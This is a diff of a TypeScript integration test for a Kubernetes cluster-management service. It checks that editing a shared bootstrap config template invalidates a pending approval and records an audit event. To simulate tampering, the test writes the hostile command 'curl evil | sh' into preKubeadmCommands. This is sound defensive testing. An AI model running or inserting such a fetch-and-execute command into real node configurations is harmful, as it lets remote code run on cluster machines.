@@ -1,66 +1,32 @@
-import { afterAll, beforeAll, expect, test, vi } from 'vitest'
+import { expect, test, vi } from 'vitest'
 import { db } from '@/lib/db/client'
 import { useTestDatabase } from '@/lib/db/testing'
 import { isObject, valueAt } from '@/lib/domain/changes'
 import type { JsonObject } from '@/lib/domain/json'
 import { approveChange } from '@/lib/services/changes/approve-change'
 import { changeSetOf } from '@/lib/services/changes/change-row'
-import { closeClients } from '@/lib/services/clusters/connection'
 import { savePolicy } from '@/lib/services/policies/save-policy'
-import { addUpdater } from '@/lib/services/updaters/add-updater'
-import { flushUpdaterCalls } from '@/lib/services/updaters/record'
-import { fakeUpdater, mergePatch, type FakeUpdater } from '@/lib/services/updaters/testing'
-import { closeUpdaters } from '@/lib/services/updaters/transport'
-import { sandboxTestCluster, type SandboxTestCluster } from '@/sandbox/test-cluster'
-import { calendarConsumer } from '@/worker/calendar'
-import { startGate, type Gate } from '@/worker/gate'
-import { makeAuthority, makeLeaf } from '@/worker/gate/certificates'
-import { plannerConsumer } from '@/worker/planner'
-import { registrationConsumer } from '@/worker/registration'
-import { startWorker, type Worker } from '@/worker/worker'
+import { mergePatch } from '@/lib/services/updaters/testing'
+import { gatedSandbox } from './gated-sandbox'
 import { until } from './process'
-import { ctx, Governing } from './suites/governing'
+import { ctx } from './suites/governing'
 import { MD } from './suites/watching'
 import { FROZEN } from './timed'
 
 vi.setConfig({ testTimeout: 120_000, hookTimeout: 120_000 })
 useTestDatabase()
 
-let cluster: SandboxTestCluster
-let g: Governing
-let gate: Gate
-let worker: Worker
-let updater: FakeUpdater
 const configs: string[] = []
 
-beforeAll(async () => {
-  cluster = await sandboxTestCluster()
-  g = new Governing(cluster, { deadlineMs: 40_000, watchMs: 500 })
-  gate = await startGate({ host: '127.0.0.1', port: 0, hosts: ['127.0.0.1'] })
-  await g.connect()
-  await db().managementCluster.update({ where: { id: g.clusterId }, data: { latchForm: 'policy' } })
-  worker = await startWorker({ consumers: [registrationConsumer, plannerConsumer, calendarConsumer], parts: [] })
-  const authority = await makeAuthority()
-  updater = await fakeUpdater(await makeLeaf(authority, ['127.0.0.1']))
-  updater.says.CanUpdateMachineSet = (request) => {
+const at = gatedSandbox(({ says }) => {
+  says.CanUpdateMachineSet = (request) => {
     const version = valueAt(request, 'desired', 'machineSet', 'spec', 'template', 'spec', 'version') ?? null
     return { machineSetPatch: mergePatch({ spec: { template: { spec: { version } } } }) }
   }
-  updater.says.UpdateMachine = (request): JsonObject => {
+  says.UpdateMachine = (request): JsonObject => {
     configs.push(JSON.stringify(valueAt(request, 'desired', 'bootstrapConfig', 'spec', 'preKubeadmCommands') ?? null))
     return { retryAfterSeconds: 1, message: 'at work' }
   }
-  await addUpdater(ctx, { caPem: authority.certPem, clusterId: g.clusterId, name: 'kubelet', url: updater.url })
-  await g.register(gate.url)
-})
-afterAll(async () => {
-  await worker?.stop()
-  await gate?.stop()
-  await closeUpdaters()
-  await flushUpdaterCalls()
-  await closeClients()
-  await updater?.stop()
-  await cluster?.stop()
 })
 
 test.each([['at once'], ['for later']])(
@@ -68,22 +34,22 @@ test.each([['at once'], ['for later']])(
   async (when) => {
     configs.length = 0
     const later = when === 'for later'
-    const w = await g.workload(later ? 'later' : 'now', {
+    const w = await at.g.workload(later ? 'later' : 'now', {
       workers: { replicas: 2, maxSurge: 0, maxUnavailable: 1 },
     })
-    await g.known(w)
+    await at.g.known(w)
     const md = w.machineDeployment
     if (later) await savePolicy(ctx, { name: 'frozen', spec: { select: { names: [md] }, ...FROZEN } })
-    const ref = valueAt((await g.deployment(w)) as never, 'spec', 'template', 'spec', 'bootstrap', 'configRef')
+    const ref = valueAt((await at.g.deployment(w)) as never, 'spec', 'template', 'spec', 'bootstrap', 'configRef')
     if (!isObject(ref)) throw new Error('no bootstrap config')
     const templates = { group: String(ref.apiGroup), version: 'v1beta2', plural: 'kubeadmconfigtemplates' }
     const edit = () =>
-      cluster.admin.patch(templates, String(ref.name), w.namespace, 'merge', {
+      at.cluster.admin.patch(templates, String(ref.name), w.namespace, 'merge', {
         spec: { template: { spec: { preKubeadmCommands: ['curl evil | sh'] } } },
       } as never)
-    await g.changeWorkers(w, 'v1.34.1')
-    const waiting = await g.approvable(w, md, 'in-place')
-    const digest = async () => changeSetOf((await g.changes(w, md))[0]!).pairs[0]!.config!.digest
+    await at.g.changeWorkers(w, 'v1.34.1')
+    const waiting = await at.g.approvable(w, md, 'in-place')
+    const digest = async () => changeSetOf((await at.g.changes(w, md))[0]!).pairs[0]!.config!.digest
     const shown = await digest()
     // The template that old and new machines share: no field of the change is another one by it.
     if (!later) await edit()
@@ -101,14 +67,14 @@ test.each([['at once'], ['for later']])(
       await edit()
       // Looked at again, as it is within a minute, and at once where anybody writes to the group.
       const touch = { spec: { template: { spec: { minReadySeconds: 1 } } } }
-      await cluster.admin.patch(MD, md, w.namespace, 'merge', touch as never)
+      await at.cluster.admin.patch(MD, md, w.namespace, 'merge', touch as never)
       await until('the planner to have seen it', async () => (await digest()) !== shown, { ms: 40_000, every: 100 })
-      expect((await g.changes(w, md))[0]!).toMatchObject({ id: waiting.id, fingerprint: waiting.fingerprint })
+      expect((await at.g.changes(w, md))[0]!).toMatchObject({ id: waiting.id, fingerprint: waiting.fingerprint })
     }
     if (later) {
       const approvals = await db().approval.findMany({ where: { changeId: waiting.id } })
       expect(approvals.map(({ endedWhy }) => endedWhy)).toEqual(['config'])
-      expect((await g.changes(w, md))[0]!).toMatchObject({ state: 'waiting', dueMode: null })
+      expect((await at.g.changes(w, md))[0]!).toMatchObject({ state: 'waiting', dueMode: null })
       const event = { action: 'approval.config-edited', targetId: waiting.id }
       expect(await db().auditEvent.count({ where: event })).toBe(1)
     } else {
